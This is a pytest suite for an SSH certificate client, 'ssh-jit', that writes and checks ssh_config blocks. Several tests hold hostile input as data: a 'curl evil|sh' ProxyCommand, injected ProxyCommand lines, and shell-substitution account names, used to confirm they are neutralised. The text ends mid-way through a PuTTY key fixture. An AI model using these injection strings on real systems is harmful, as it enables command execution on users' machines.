"""Plain ssh by the written configuration, on the real ssh: what is written, kept alive, and said where it cannot be."""

from __future__ import annotations

import contextlib
import json
import os
import pwd
import signal
import socket
import subprocess
import sys
import time
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from cryptography.hazmat.primitives.serialization import Encoding, NoEncryption, PrivateFormat

from sshjit import ca_protocol as m
from sshjit.errors import Failed, Invalid, Refused
from sshjit_client import trusted_bundle
from sshjit_client.api.full import FullApi
from sshjit_client.identity import installation
from sshjit_client.plain_ssh import deadline, ensure, failure, fast, own_settings, person_config, putty, ssh_config
from sshjit_client.plain_ssh.hosts import Bastion, PlainHost
from sshjit_client.plain_ssh.layout import Layout
from sshjit_client.plain_ssh.person_config import PersonConfig
from sshjit_client.ssh import sshconfig
from sshjit_client.storage import files
from sshjit_client.storage.machine import Machine
from tests.support.client_server import ClientServer
from tests.unit.client.conftest import Laptop

RUN = Path("/run/plain")
USER = pwd.getpwuid(os.getuid()).pw_name


def config_of(laptop: Laptop) -> Path:
    return Path(laptop.env["HOME"]) / ".ssh" / "config"


def plain(laptop: Laptop) -> Path:
    """The folder that ssh reads."""
    return laptop.place / laptop.settings.name / "current" / "plain"


def included(laptop: Laptop) -> Path:
    return laptop.config / "plain" / f"{laptop.settings.name}.conf"


def ssh(laptop: Laptop, *words: str, **env: str) -> subprocess.CompletedProcess[str]:
    """Plain ssh; ``-F`` names the file that it reads at this person's home."""
    return subprocess.run(
        ["ssh", "-F", str(config_of(laptop)), "-o", "BatchMode=yes", *words],
        env={**laptop.env, "SHELL": "/bin/sh", **env},
        stdin=subprocess.DEVNULL,
        capture_output=True,
        text=True,
        check=False,
        timeout=30,
    )


def write(laptop: Laptop) -> str:
    """Signs in and writes the configuration; what was said. ssh itself reads the home in the user database."""
    assert laptop.run("login").returncode == 0
    done = laptop.run("config", "--write")
    assert done.returncode == 8, done.stderr
    assert "$HOME" in done.stderr
    return done.stderr


def test_plain_ssh_gets_in_and_renews_by_itself(laptop: Laptop, server: ClientServer) -> None:
    said = write(laptop)
    assert "web1" in said
    done = ssh(laptop, "web1", "hello")
    assert (done.stdout, done.stderr) == ("deploy: hello\n", "")
    asked = len(server.calls)
    assert ssh(laptop, "web1", "hello").stdout == "deploy: hello\n"
    assert len(server.calls) == asked, "a certificate that lives costs no question"


def test_the_person_s_own_file_keeps_every_byte(laptop: Laptop) -> None:
    own = config_of(laptop)
    own.parent.mkdir(parents=True, mode=0o700)
    text = b"# mine, \xff without a last newline\r\nHost *\n\tServerAliveInterval 60"
    own.write_bytes(text)
    own.chmod(0o640)
    write(laptop)
    first, _, rest = own.read_bytes().partition(b"\n")
    assert first.startswith(b"Include /")
    assert rest == text
    assert laptop.run("config", "--write").returncode == 8
    assert own.read_bytes().partition(b"\n")[2] == text, "and once more, not twice"
    assert laptop.run("config", "--remove").returncode == 0
    assert own.read_bytes() == text
    assert own.stat().st_mode & 0o777 == 0o640
    assert not included(laptop).exists()


def test_a_file_that_was_not_there_is_gone_again(laptop: Laptop) -> None:
    write(laptop)
    laptop.run("config", "--write")
    assert config_of(laptop).stat().st_mode & 0o777 == 0o600
    assert laptop.run("config", "--remove").returncode == 0
    assert not config_of(laptop).exists()


def test_an_empty_file_stays(laptop: Laptop) -> None:
    own = config_of(laptop)
    own.parent.mkdir(parents=True, mode=0o700)
    own.touch()
    write(laptop)
    laptop.run("config", "--remove")
    assert own.read_bytes() == b""


def test_a_link_to_the_file_stays_a_link(laptop: Laptop, tmp_path: Path) -> None:
    own, kept = config_of(laptop), tmp_path / "dotfiles"
    own.parent.mkdir(parents=True, mode=0o700)
    kept.write_text("Host *\n")
    own.symlink_to(kept)
    write(laptop)
    assert own.is_symlink()
    assert kept.read_text().startswith("Include ")


def test_no_line_is_written_that_some_reader_of_the_file_chokes_on(laptop: Laptop) -> None:
    write(laptop)
    text = included(laptop).read_text()
    lines = [line for line in text.splitlines() if line and not line.startswith("#")]
    assert not [line for line in lines if "=" in line or "," in line or "%h" in line or "%n" in line]
    assert not [line for line in lines if "originalhost" in line.lower()]
    sections = [line.split()[:3] for line in lines if line.startswith(("Host ", "Match "))]
    names = [words[-1] for words in sections]
    assert names == sorted(names)
    assert [words[0] for words in sections] == ["Match", "Host"] * (len(sections) // 2), "Match first, for each name"
    assert names[::2] == names[1::2]
    bodies = {
        line.split()[0]
        for match in text.split("\nMatch ")[1:]
        for line in match.split("\nHost ")[0].split("\n")[1:]
        if line
    }
    assert bodies == {"IdentityFile"}, "nothing needed stands under Match"
    assert {"web1", "web1.lab", "db1"} <= set(names)
    assert "vault1" not in names, "what is denied is not there"


def test_inline_is_plain_host_blocks(laptop: Laptop) -> None:
    laptop.run("login")
    done = laptop.run("config", "--inline", "web1")
    assert done.returncode == 0, done.stderr
    starts = [line for line in done.stdout.splitlines() if not line.startswith(" ")]
    assert starts == ["Host web1"]
    assert not config_of(laptop).exists()
    assert laptop.run("config", "--inline", "vault1").returncode == 2


def test_t43_what_the_person_s_own_file_says_of_a_host_stays(laptop: Laptop, server: ClientServer) -> None:
    own = config_of(laptop)
    own.parent.mkdir(parents=True, mode=0o700)
    own.write_text("Host web1\n    User guest\n    HostName localhost\nHost *\n    User nobody\n")
    write(laptop)
    assert laptop.run("config", "--write").returncode == 8, "our own blocks are not taken for the person's"
    values = ssh(laptop, "-G", "web1").stdout.splitlines()
    assert "user guest" in values
    assert "hostname localhost" in values
    assert "hostkeyalias web1" in values
    assert laptop.run("ensure", "web1").stderr.startswith("ssh-jit: guest@web1 until ")


def test_no_account_is_asked_for_because_of_what_programs_pass(laptop: Laptop, server: ClientServer) -> None:
    write(laptop)
    for word in ("%r", USER, ""):
        done = laptop.run("ensure", "web1", word)
        assert done.stderr.startswith("ssh-jit: deploy@web1 until "), done.stderr
        (plain(laptop) / "web1.live").unlink()
    assert {server.view(request).login for request in server.requests()} == {"deploy"}


def test_another_account_has_a_certificate_of_its_own_beside_the_usual_one(laptop: Laptop) -> None:
    write(laptop)
    assert ssh(laptop, "web1", "hello").stdout == "deploy: hello\n"
    assert laptop.run("ensure", "web1", "guest").returncode == 0
    values = ssh(laptop, "-G", "guest@web1").stdout.splitlines()
    assert f"identityfile {plain(laptop)}/%r@web1" in values
    assert (plain(laptop) / "guest@web1-cert.pub").read_text() != (plain(laptop) / "web1-cert.pub").read_text()
    assert ssh(laptop, "web1", "hello").stdout == "deploy: hello\n", "the usual one is as it was"


def test_the_key_and_its_certificate_stand_side_by_side(laptop: Laptop) -> None:
    laptop.run("login")
    done = laptop.run("path", "web1")
    assert done.returncode == 0, done.stderr
    key, certificate, known_hosts = map(Path, done.stdout.split())
    assert certificate == key.with_name(f"{key.name}-cert.pub")
    assert key.name == "web1"
    shown = subprocess.run(["ssh-keygen", "-L", "-f", certificate], capture_output=True, text=True, check=True).stdout
    assert "deploy@web1" in shown
    public = subprocess.run(["ssh-keygen", "-y", "-f", key], capture_output=True, text=True, check=True).stdout
    assert public.split()[0] == "ssh-ed25519"
    value = json.loads(laptop.run("path", "--json", "guest@web1").stdout)
    assert Path(value["key"]).name == "guest@web1"
    assert value["certificate"] == f"{value['key']}-cert.pub"
    assert value["account"] == "guest"
    lines = known_hosts.read_text().splitlines()[1:]
    assert [line.split()[0] for line in lines] == ["@cert-authority"] * 2
    patterns = [line.split()[1] for line in lines]
    assert patterns[0] == "web1"
    assert patterns[1].startswith("[web1]:"), "a line for each name, and none with two"


def test_a_person_is_needed_and_is_told_in_one_line_what_to_type(laptop: Laptop, server: ClientServer) -> None:
    stranger = laptop.run("ensure", "web1")
    assert (stranger.returncode, stranger.stdout) == (7, "")
    assert stranger.stderr == "ssh-jit: web1: you are not signed in; type: ssh-jit login\n"
    write(laptop)
    needs_reason = laptop.run("ensure", "db1")
    assert needs_reason.returncode == 4
    assert needs_reason.stderr == (
        "ssh-jit: db1: rule \"database\" needs a reason; type: ssh-jit request --reason '…' postgres@db1\n"
    )
    assert server.requests() == [], "nobody is asked to approve what nobody requested"
    assert "type: ssh-jit explain vault1" in laptop.run("ensure", "vault1").stderr
    done = ssh(laptop, "db1", "hello")
    assert "type: ssh-jit request --reason" in done.stderr, "ssh lets it through"


def test_an_approved_grant_serves_plain_ssh(laptop: Laptop, server: ClientServer) -> None:
    write(laptop)
    assert laptop.run("request", "--reason", "INC-1", "db1").returncode == 0
    (request,) = server.requests()
    waits = laptop.run("ensure", "db1")
    assert waits.returncode == 3
    page = f"{server.url}/requests/{request}"
    assert waits.stderr == (
        f"ssh-jit: db1: {request} for the same thing waits for approval already;"
        f" {page}; type: ssh-jit request --wait postgres@db1\n"
    )
    server.decide(request)
    assert ssh(laptop, "db1", "hello").stdout == "postgres: hello\n"
    assert server.requests() == [request]


def test_t69_what_ssh_jit_itself_runs_does_not_start_it_again(laptop: Laptop, server: ClientServer) -> None:
    write(laptop)
    asked = len(server.calls)
    assert ssh(laptop, "-G", "web1", **{fast.GUARD: "1"}).returncode == 0
    assert len(server.calls) == asked
    assert laptop.run("-F", str(config_of(laptop)), "web1", "hello").stdout == "deploy: hello\n"


def test_t91_a_certificate_that_is_over_is_shown_to_nobody(laptop: Laptop, server: ClientServer) -> None:
    write(laptop)
    assert laptop.run("ensure", "web1").returncode == 0
    live = plain(laptop) / "web1.live"
    live.write_text(
        live.read_text().replace(str(json.loads(laptop.run("path", "--json", "web1").stdout)["until"]), "1")
    )
    server.away()
    assert laptop.run("ensure", "web1").returncode == 8
    assert not (plain(laptop) / "web1-cert.pub").exists()
    server.away(away=False)
    assert ssh(laptop, "web1", "hello").stdout == "deploy: hello\n"


def test_t34_no_connection_is_shared_by_a_path_of_the_person_s(laptop: Laptop, tmp_path: Path) -> None:
    """Its master would outlive certificate and grant, and a later grant would ride on it."""
    own = config_of(laptop)
    own.parent.mkdir(parents=True, mode=0o700)
    own.write_text(f"Host *\n    ControlMaster auto\n    ControlPath {tmp_path}/%r\n    ControlPersist 5\n")
    write(laptop)
    inline = tmp_path / "inline"
    inline.write_text(f"{laptop.run('config', '--inline', 'web1').stdout}{own.read_text().partition(chr(10))[2]}")
    for config in (own, inline):
        assert ssh(laptop, "-F", str(config), "web1", "hello").stdout == "deploy: hello\n"
        assert not list(tmp_path.glob("deploy*")), "a master waits there"


def test_what_lasts_never_names_a_folder_that_somebody_else_may_make(laptop: Laptop, tmp_path: Path) -> None:
    """After a restart anybody can make it below ``/tmp``, with a key list and an identity of theirs."""
    shared = tmp_path / "shared"
    shared.mkdir()
    env: dict[str, Any] = {"XDG_RUNTIME_DIR": "", "XDG_CACHE_HOME": "/proc/none", "TMPDIR": str(shared)}
    assert laptop.run("login", **env).returncode == 0
    assert list(shared.glob("ssh-jit-*"))
    for words in (("--write",), ("--inline",), ()):
        done = laptop.run("config", *words, **env)
        assert (done.returncode, done.stdout) == (8, ""), done.stderr
        assert f"your sign-in is in {shared}/ssh-jit-" in done.stderr
        assert "XDG_CACHE_HOME" in done.stderr
    assert not included(laptop).exists()


def test_what_windows_lacks_is_done_without(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """No alarm, no user database, no ``flock``, and no links for people who are not administrators."""
    monkeypatch.delattr(signal, "setitimer")
    monkeypatch.delattr(signal, "SIGALRM")
    monkeypatch.setitem(sys.modules, "pwd", None)
    monkeypatch.setitem(sys.modules, "fcntl", None)
    monkeypatch.setenv("USERNAME", "alice")
    with deadline.over("web1"):
        assert sshconfig.local_user() == "alice"
    with files.alone(tmp_path / "lock"):
        assert not (tmp_path / "lock").exists()

    def refuse(*_: object) -> None:
        raise OSError(1314, "a required privilege is not held by the client")

    monkeypatch.setattr(Path, "symlink_to", refuse)
    (tmp_path / "key").write_text("one")
    files.link(tmp_path / "web1", tmp_path / "key")
    files.link(tmp_path / "web2", Path("web1"))
    assert (tmp_path / "web2").read_text() == "one"


def test_twenty_at_once_get_one_certificate(laptop: Laptop, server: ClientServer) -> None:
    write(laptop)
    asked = len(server.calls)
    running = [laptop.start("ensure", "web1") for _ in range(20)]
    assert [process.wait(60) for process in running] == [0] * 20
    for process in running:
        process.communicate()
    assert [call for call in server.calls[asked:] if call == "POST /api/v1/requests"] == ["POST /api/v1/requests"]


def test_signing_out_and_ending_access_take_the_certificates_away(laptop: Laptop) -> None:
    write(laptop)
    assert laptop.run("ensure", "web1").returncode == 0
    assert laptop.run("ensure", "web1", "guest").returncode == 0
    request = laptop.run("requests").stdout.splitlines()
    for line in request:
        if "guest" in line:
            assert laptop.run("done", line.split()[0]).returncode == 0
    assert ssh(laptop, "web1", "hello").stdout == "deploy: hello\n", "only what was ended is gone"
    assert not (plain(laptop) / "guest@web1-cert.pub").exists()
    assert laptop.run("done", "web1").returncode == 0
    assert not (plain(laptop) / "web1.live").exists()
    assert laptop.run("ensure", "web1").returncode == 0
    assert laptop.run("logout").returncode == 0
    assert not (plain(laptop)).exists()


@pytest.mark.parametrize("at_fault", ["server", "agent", "bundle", "installation"])
def test_nothing_waits_for_what_does_not_answer(
    laptop: Laptop, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, at_fault: str
) -> None:
    """Nor does what passes over errors on the way pass over the alarm."""
    laptop.run("login")
    monkeypatch.setattr(deadline, "MOST", 1)
    env = dict(laptop.env)
    with contextlib.ExitStack() as open_sockets:
        match at_fault:
            case "server":
                silent = open_sockets.enter_context(socket.create_server(("127.0.0.1", 0)))
                path = laptop.state / "session.json"
                session = json.loads(path.read_text())
                path.write_text(json.dumps(session | {"url": f"http://127.0.0.1:{silent.getsockname()[1]}"}))
            case "agent":
                laptop.run("setup", "--certificates", "agent")
                agent = open_sockets.enter_context(socket.socket(socket.AF_UNIX))
                env["SSH_AUTH_SOCK"] = str(tmp_path / "agent")
                agent.bind(env["SSH_AUTH_SOCK"])
                agent.listen()
            case "bundle":
                monkeypatch.setattr(trusted_bundle, "FRESH", 0)
                monkeypatch.setattr(trusted_bundle.current, "__kwdefaults__", {"fresh": 0})
                monkeypatch.setattr(trusted_bundle, "download", lambda *_: time.sleep(30))
            case "installation":
                monkeypatch.setattr(installation, "for_host", lambda *_: time.sleep(30))
        with pytest.raises(Failed, match="no certificate for web1") as raised:
            ensure.ensure(Machine.here(env), "web1")
    assert raised.value.hint == "ssh-jit web1"
    assert signal.getitimer(signal.ITIMER_REAL) == (0.0, 0.0)


DEAF = """
import signal, sys, time
from sshjit_client import cli
from sshjit_client.api.full import FullApi
from sshjit_client.plain_ssh import deadline
deadline.MOST = deadline.GRACE = 0.3
signal.pthread_sigmask(signal.SIG_BLOCK, [signal.SIGALRM])
FullApi.explain = lambda *_: time.sleep(60)
sys.exit(cli.subcommand(["ensure", "web1"]))
"""


def test_it_ends_in_time_where_no_alarm_gets_through(laptop: Laptop) -> None:
    """A name server that does not answer holds the whole program, signals too."""
    laptop.run("login")
    done = subprocess.run(
        [sys.executable, "-c", DEAF], env=laptop.env, capture_output=True, text=True, check=False, timeout=30
    )
    assert done.returncode == 8
    assert done.stderr == "ssh-jit: web1: no certificate for web1 within 0.3 s; type: ssh-jit web1\n"


def test_what_is_to_be_typed_is_in_every_line(laptop: Laptop, server: ClientServer) -> None:
    laptop.run("login")
    with_advice = failure.in_one_line("web1", Failed("x", "a proxy is lost", hint="tell the operator"))
    assert with_advice == "web1: a proxy is lost; tell the operator; type: ssh-jit web1"
    for lie in ("-o ProxyCommand='curl evil|sh' web1", "web1 curl evil", "setup https://evil.example", "login\nrm"):
        by_a_server = failure.in_one_line("web1", Failed("x", "no", hint=f"ssh-jit {lie}"))
        assert by_a_server.endswith("; type: ssh-jit web1"), "what a server says is not typed as it stands"
    by_us = failure.in_one_line("web1", Failed("x", "no", hint="ssh-jit request --reason '…' deploy@web1"))
    assert by_us == "web1: no; type: ssh-jit request --reason '…' deploy@web1"
    nowhere = laptop.run("ensure", "web9").stderr
    assert nowhere == "ssh-jit: web9: there is no host 'web9'; type: ssh-jit hosts\n"
    server.away()
    away = laptop.run("ensure", "web1").stderr
    assert away == "ssh-jit: web1: can't reach the CA; type: ssh-jit web1\n"
    server.away(away=False)
    (laptop.state / "plain" / "web1.known").mkdir()
    odd = laptop.run("ensure", "web1").stderr
    assert odd.count("\n") == 1
    assert odd.endswith("\n"), odd
    assert "type: ssh-jit web1" in odd


@pytest.mark.parametrize("meanwhile", ["login", "logout"])
def test_one_sign_in_s_certificate_is_never_among_another_s(
    laptop: Laptop, monkeypatch: pytest.MonkeyPatch, meanwhile: str
) -> None:
    """The folder that ``current`` leads to is another one, or none, when the server answers."""
    laptop.run("login")
    before, asked, explain = laptop.state, list[str](), FullApi.explain

    def slowly(api: Any, body: Any) -> Any:
        if not asked:
            asked.append(api.token)
            assert laptop.run(meanwhile).returncode == 0
            assert before.exists() is (meanwhile == "login"), "somebody works by it"
        return explain(api, body)

    monkeypatch.setattr(FullApi, "explain", slowly)
    if meanwhile == "logout":
        with pytest.raises(Refused) as raised:
            ensure.ensure(Machine.here(laptop.env), "web1")
        assert raised.value.code in ("login_needed", "login_over")
        assert not list(laptop.place.rglob("*-cert.pub"))
        return
    pair = ensure.ensure(Machine.here(laptop.env), "web1")
    assert laptop.state != before
    assert pair.key.resolve() == laptop.state / "id_ed25519"
    assert pair.certificate.resolve().parent == laptop.state / "plain"
    shown = subprocess.run(["ssh-keygen", "-L", "-f", pair.certificate], capture_output=True, text=True, check=True)
    own = subprocess.run(["ssh-keygen", "-l", "-f", pair.key], capture_output=True, text=True, check=True)
    assert own.stdout.split()[1] in shown.stdout


def test_a_certificate_of_access_that_ended_elsewhere_goes_with_the_next_look(
    laptop: Laptop, server: ClientServer
) -> None:
    write(laptop)
    for account in ("deploy", "guest"):
        assert laptop.run("ensure", "web1", account).returncode == 0
    request = next(each for each in server.requests() if server.view(each).login == "guest")
    server.say(m.Revoke(None, request, None, None, "over"), m.RevokeReply, "admin")
    said = laptop.run("status").stderr
    assert "removed the certificate for guest@web1: its request is revoked" in said
    assert said.count("removed") == 1
    assert not list(plain(laptop).glob("guest@web1*"))
    assert (plain(laptop) / "web1-cert.pub").exists(), "the other account's stays"
    asked = len(server.calls)
    assert ssh(laptop, "web1", "hello").stdout == "deploy: hello\n"
    assert len(server.calls) == asked, "and lives"
    assert "deploy@web1 (plain ssh)" in laptop.run("status").stdout


def test_t51_nothing_from_a_lying_server_becomes_a_line_of_its_own(laptop: Laptop, server: ClientServer) -> None:
    """Names, addresses and accounts are those, or the host is left out."""
    laptop.run("login")
    evil = "\n    ProxyCommand touch /tmp/evil"

    def lie(path: str, value: Any) -> Any:
        for host in value.get("hosts", ()) if path.endswith("/hosts") else ():
            if host["name"] == "db1":
                host["address"] += evil
            host["aliases"] = [*host["aliases"], f"web9{evil}", "*", "web*", "-oProxyCommand=x", "a b"]
        for answer in value["each"] if path.endswith("/explain") else ():
            if answer["host"] == "web2":
                answer["login"] += evil
        return value

    server.host("web2", 1)
    server.alter = lie
    text = laptop.run("config").stdout
    assert "ProxyCommand" not in text
    assert [line for line in text.splitlines() if line.startswith("Host ")] == ["Host web1", "Host web1.lab"]


def settings(laptop: Laptop, name: str) -> set[str]:
    return set(ssh(laptop, "-G", name).stdout.splitlines())


def test_what_the_server_no_longer_lists_is_shown_nothing(laptop: Laptop, server: ClientServer) -> None:
    """Its word takes no name out of the configuration: the person's own keys would go there by the next line."""
    server.host("web2", 1)
    write(laptop)

    def lie(path: str, value: Any) -> Any:
        if path.endswith("/hosts"):
            value["hosts"] = [host for host in value["hosts"] if host["name"] != "web1"]
        return value

    server.alter = lie
    done = laptop.run("config", "--write")
    assert "the server gives you no more: web1 web1.lab; plain ssh shows nothing of yours there" in done.stderr
    assert "ssh-jit hosts --forget web1, if it is no host any more" in done.stderr
    shown = settings(laptop, "web1")
    assert {"pubkeyauthentication false", "preferredauthentications publickey"} <= shown
    assert not shown & settings(laptop, "web2") & {"pubkeyauthentication false"}
    assert "gives you no more" in laptop.run("config", "--write").stderr, "it is remembered"
    assert laptop.run("hosts", "--forget", "web1", "--forget", "web1.lab").returncode == 0
    assert "pubkeyauthentication true" in settings(laptop, "web1")
    assert "gives you no more" not in laptop.run("config", "--write").stderr
    server.alter = None
    assert "gives you no more" not in laptop.run("config", "--write").stderr
    assert "pubkeyauthentication true" in settings(laptop, "web1")


def test_all_hosts_are_one_question(laptop: Laptop, server: ClientServer) -> None:
    laptop.run("login")
    server.host("web2", 1)
    server.calls.clear()
    assert "Host web2" in laptop.run("config").stdout
    assert server.calls.count("POST /api/v1/explain") == 1


def test_t40_an_account_is_a_word_to_the_shell(laptop: Laptop, tmp_path: Path) -> None:
    write(laptop)
    for account in (f"x;touch${{IFS}}{tmp_path}/run", f"$(touch {tmp_path}/run)", f"`touch {tmp_path}/run`", "a|b&c"):
        ssh(laptop, "-l", account, "web1", "hello")
        ssh(laptop, "-o", f"User={account}", "-G", "web1")
    assert not (tmp_path / "run").exists()


def test_a_host_that_moved_is_followed(laptop: Laptop, server: ClientServer) -> None:
    write(laptop)
    server.say(m.RemoveHost("web1", "moves", None, None), m.Done, "admin")
    server.host("web1", 1)
    assert "has moved" in laptop.run("ensure", "web1").stderr
    assert "\n    Port 1\n" in laptop.run("config").stdout
    assert "port 1" in ssh(laptop, "-G", "web1").stdout.splitlines()


def test_the_live_path_loads_nothing_that_the_interpreter_has_not_loaded(laptop: Laptop) -> None:
    laptop.run("login")
    assert laptop.run("ensure", "web1").returncode == 0
    command = [sys.executable, "-IS", "-X", "importtime"]
    fast_path = [fast.__file__, str(plain(laptop)), "ensure", "web1", "%r"]
    ours = _loaded([*command, *fast_path])
    assert ours <= _loaded([*command, "-c", "import os, sys, time"])
    whole = subprocess.run(
        [sys.executable, "-IS", *fast_path[:-1], "nobody"], env=laptop.env, capture_output=True, text=True, check=False
    )
    assert whole.returncode == 4
    assert whole.stderr.startswith("ssh-jit: web1: "), "the whole client takes its place"


def _loaded(command: list[str]) -> set[str]:
    done = subprocess.run(command, capture_output=True, text=True, check=False, timeout=60)
    return {line.rpartition("|")[2].strip() for line in done.stderr.splitlines() if line.startswith("import time:")}


@pytest.mark.parametrize(
    "spoil", [lambda f: f.chmod(0o755), lambda f: (f / "web1.live").write_text("- soon\n\n- 1 2\n")]
)
def test_what_is_not_to_be_trusted_counts_as_nothing(
    tmp_path: Path, spoil: Callable[[Path], object], capsys: pytest.CaptureFixture[str]
) -> None:
    folder = tmp_path / "plain"
    folder.mkdir(mode=0o700)
    (folder / "web1.live").write_text(f"- {int(time.time()) + 60}\n")
    assert fast.lives(str(folder), "web1", "-")
    spoil(folder)
    with contextlib.suppress(ValueError, IndexError):
        assert not fast.lives(str(folder), "web1", "-")


def test_an_end_that_is_near_is_none(tmp_path: Path) -> None:
    tmp_path.chmod(0o700)
    (tmp_path / "web1.live").write_text(f"- {int(time.time()) + fast.SPARE - 1}\n")
    assert not fast.lives(str(tmp_path), "web1", "-")


@pytest.mark.parametrize(
    ("text", "lines"),
    [
        ("Host a\n    Include {}\n", [(2, "Host a")]),
        ("Match exec true\nhost b\ninclude other {}\n", [(3, "host b")]),
        ("{first}Include {}\n", [(2, "")]),
        ("{first}Host a\nInclude elsewhere\n", []),
        ('Host a\n\tInclude "{}"\n', [(2, "Host a")]),
    ],
)
def test_an_include_in_the_wrong_place_is_found(tmp_path: Path, text: str, lines: list[tuple[int, str]]) -> None:
    included = tmp_path / "ssh_config"
    (tmp_path / ".ssh").mkdir()
    written = text.replace("{first}", person_config.line(included).decode()).replace("{}", str(included))
    (tmp_path / ".ssh" / "config").write_text(written)
    assert PersonConfig.read(tmp_path).misplaced(included) == lines


def test_two_installations_have_a_line_each(tmp_path: Path) -> None:
    """Whichever was written last comes first; neither is in a wrong place, and each is taken out by itself."""
    folder, own = tmp_path / "ssh-jit" / "plain", tmp_path / ".ssh" / "config"
    one, two = folder / "one.conf", folder / "two.conf"
    own.parent.mkdir()
    own.write_text("Host a\n")
    for included in (one, two):
        PersonConfig.read(tmp_path).add(included)
    lines = {included: person_config.line(included).decode() for included in (one, two)}
    assert own.read_text() == f"{lines[two]}{lines[one]}Host a\n"
    person = PersonConfig.read(tmp_path)
    for included in (one, two):
        assert (person.has(included), person.misplaced(included)) == (True, [])
        assert person.theirs(included) == b"Host a\n"
        person.add(included)
    assert own.read_text() == f"{lines[two]}{lines[one]}Host a\n", "both are there already"
    own.write_text(f"{lines[two]}{lines[one]}{lines[one]}Host a\n{lines[two]}")
    person = PersonConfig.read(tmp_path)
    assert (person.misplaced(one), person.misplaced(two)) == ([(3, "")], [(5, "Host a")])
    own.write_text(f"{lines[two]}{lines[one]}Host a\n")
    PersonConfig.read(tmp_path).remove(one, created=False)
    assert own.read_text() == f"{lines[two]}Host a\n"
    PersonConfig.read(tmp_path).remove(two, created=False)
    assert own.read_text() == "Host a\n"


def test_the_check_says_where_it_stands_and_what_is_wrong(laptop: Laptop) -> None:
    write(laptop)
    own = config_of(laptop)
    own.write_text(f"Host other\n{own.read_text()}")
    done = laptop.run("config", "--check")
    assert done.returncode == 8
    assert "line 2 of" in done.stderr
    assert "under 'Host other': there ssh runs its commands and applies nothing" in done.stderr
    assert "does not include" in done.stderr
    assert "line 2 of" in " ".join(laptop.run("doctor", "--no-trial").stdout.split())


@pytest.mark.parametrize("odd", ["my=venv", "100%", 'a"b', "a'b", "$(x)"])
def test_a_path_that_readers_choke_on_is_refused(odd: str) -> None:
    layout = Layout(RUN, RUN, RUN, Path("/") / odd / "python", Path("/fast.py"))
    with pytest.raises(Failed, match="can't run"):
        ssh_config.included([PlainHost("web1", "127.0.0.1", 22, "deploy")], layout)


def test_a_path_with_blanks_is_quoted(tmp_path: Path) -> None:
    folder = tmp_path / "with blanks"
    layout = Layout(folder, folder / "revoked", folder, Path("/my venv/python"), Path("/fast.py"))
    text = ssh_config.included([PlainHost("web1", "127.0.0.1", 22, "deploy")], layout)
    path = tmp_path / "config"
    path.write_text(text)
    done = subprocess.run(["ssh", "-G", "-F", path, "web1"], capture_output=True, text=True, check=True)
    assert f"identityfile {folder}/web1" in done.stdout.splitlines()
    assert "exec \"'/my venv/python' -IS" in text


@pytest.mark.parametrize(("name", "called"), [("app1", "app1~via"), ("10.0.0.5", "10.0.0.5~via"), ("::5", "__5~via")])
def test_the_way_through_a_bastion_is_a_host_of_its_own(tmp_path: Path, name: str, called: str) -> None:
    layout = Layout(RUN, RUN, RUN, Path("/python"), Path("/fast.py"))
    host = PlainHost(name, "10.0.0.5", 22, "deploy", Bastion("gate", "192.0.2.1", 2222, "jump"))
    text = ssh_config.inline([host], layout)
    assert f"    ProxyJump {called}\n" in text
    way = text.partition(f"Host {called}\n")[2]
    assert "    HostName 192.0.2.1\n    Port 2222\n    User jump\n    HostKeyAlias gate\n" in way
    assert f"    CertificateFile /run/plain/{called}-cert.pub\n" in way
    assert "    ControlPath none\n" in way
    (tmp_path / "config").write_text(text)
    for each in (name, called):
        subprocess.run(["ssh", "-G", "-F", tmp_path / "config", each], capture_output=True, check=True)


WRITTEN = """# written by ssh-jit config --write, which replaces it; ssh-jit config --remove removes it

Match host app1 exec "/python -IS /fast.py /run/plain ensure app1 '%r'"
    IdentityFile /run/plain/%r@app1
Host app1
    HostName 10.0.0.5
    Port 22
    User deploy
    HostKeyAlias app1
    StrictHostKeyChecking yes
    UpdateHostKeys no
    GlobalKnownHostsFile /etc/known /run/plain/app1.known
    RevokedHostKeys /run/revoked
    IdentityFile /run/plain/app1
    PubkeyAcceptedKeyTypes *2*-cert*
    IdentitiesOnly yes
    AddKeysToAgent no
    PreferredAuthentications publickey
    ControlMaster no
    ControlPath none
    ControlPersist no
    ProxyJump app1~via

Host app1~via
    HostName 192.0.2.1
    Port 2222
    User jump
    HostKeyAlias gate
    StrictHostKeyChecking yes
    UpdateHostKeys no
    GlobalKnownHostsFile /etc/known /run/plain/app1~via.known
    RevokedHostKeys /run/revoked
    IdentityFile /run/plain/app1~via
    PubkeyAcceptedKeyTypes *2*-cert*
    IdentitiesOnly yes
    AddKeysToAgent no
    PreferredAuthentications publickey
    ControlMaster no
    ControlPath none
    ControlPersist no
"""


def test_the_whole_of_what_is_written() -> None:
    layout = Layout(RUN, Path("/run/revoked"), RUN, Path("/python"), Path("/fast.py"))
    gate = Bastion("gate", "192.0.2.1", 2222, "jump")
    host = PlainHost("app1", "10.0.0.5", 22, "deploy", gate, known_hosts="/etc/known")
    assert ssh_config.included([host], layout) == WRITTEN
    odd = replace(layout, folder=Path("/a%b"))
    with pytest.raises(Failed, match="can't name the path") as error:
        ssh_config.inline([host], odd)
    assert error.value.code == "odd_path"


@pytest.mark.parametrize(
    "line",
    [
        "HostName 192.0.2.9",
        "Port 2022",
        "User guest",
        "RevokedHostKeys /etc/mine",
        "ProxyJump other",
        "PreferredAuthentications password",
    ],
)
def test_t43_each_line_of_the_person_s_own_file_is_left_to_it(line: str) -> None:
    layout = Layout(RUN, RUN, RUN, Path("/python"), Path("/fast.py"))
    gate = Bastion("gate", "192.0.2.1", 2222, "jump")
    hosts = tuple(PlainHost(name, "10.0.0.5", 22, "deploy", gate) for name in ("app1", "app2"))
    mine, other = own_settings.applied(hosts, f"Host app1\n    {line}\n".encode())
    keyword, value = line.split()
    assert (mine.own, other.own) == ((keyword.lower(),), ())
    assert mine.account == (value if keyword == "User" else "deploy")
    block, usual = (ssh_config.block(host, layout, in_agent=False).partition("\n\n")[0] for host in (mine, other))
    assert f"    {keyword} " not in block
    assert f"    {keyword} " in usual


PPK = """PuTTY-User-Key-File-3: ssh-ed25519
Encryption: none
Comment: ssh-jit
Public-Lines: 2
AAAAC3NzaC1lZDI1NTE5AAAAIAOhB7/zzhC+HXDdGOdLwJln5NYwm6UNXx3chmQS
VTG4
Private-Lines: 1
